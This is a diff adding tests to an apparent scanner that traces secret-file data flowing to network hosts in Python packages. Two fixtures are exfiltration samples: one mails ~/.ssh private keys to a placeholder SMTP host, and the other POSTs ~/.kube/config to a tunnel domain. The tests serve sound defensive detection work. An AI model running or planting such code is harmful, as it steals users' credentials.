@@ -849,3 +849,53 @@ def test_download_benign_fed_to_a_program_that_does_not_run_it() -> None:
     source = "import subprocess, requests\ndef unpack(u):\n"
     source += "    subprocess.run(['gzip', '-d'], input=requests.get(u).content)\n"
     assert flows_of(source) == []
+
+
+def test_secret_put_into_a_message_and_mailed_through_a_client_bound_by_with() -> None:
+    source = """
+        import glob, os, smtplib
+        from email.message import EmailMessage
+        def main():
+            msg = EmailMessage()
+            for p in glob.glob(os.path.expanduser("~/.ssh/id_*")):
+                with open(p, "rb") as f:
+                    msg.add_attachment(f.read(), maintype="application", subtype="octet-stream")
+            with smtplib.SMTP_SSL("smtp.mail.example", 465) as s:
+                s.send_message(msg)
+    """
+    found = [(f.source, f.destination.host) for f in flows_of(source)]
+    assert (Source.SECRET_FILE, "smtp.mail.example") in found, found
+
+
+def test_credential_folder_as_path_parts_sent_to_a_host_kept_on_the_class() -> None:
+    source = """
+        import http.client
+        from pathlib import Path
+        class Context:
+            TUNNEL = "quiet-river.trycloudflare.com"
+            def __init__(self):
+                self.cfg = Path.home() / ".kube" / "config"
+            def current(self):
+                raw = self.cfg.read_bytes()
+                c = http.client.HTTPSConnection(self.TUNNEL)
+                c.request("POST", "/ctx", raw)
+    """
+    assert [f.destination.host for f in flows_of(source)] == ["quiet-river.trycloudflare.com"]
+
+
+def test_benign_report_mailed_to_the_callers_server(tmp_path: Path) -> None:
+    module = """
+        import smtplib
+        from email.message import EmailMessage
+        def mail_report(path, server, to):
+            msg = EmailMessage()
+            msg["To"] = to
+            with open(path, "rb") as f:
+                msg.add_attachment(f.read(), maintype="text", subtype="csv")
+            with smtplib.SMTP(server) as s:
+                s.send_message(msg)
+    """
+    verdict, findings = scan_package(
+        tmp_path, {f"{DEFAULT_NAME}/__init__.py": "", f"{DEFAULT_NAME}/mail.py": module}
+    )
+    assert verdict is Verdict.CLEAN, findings
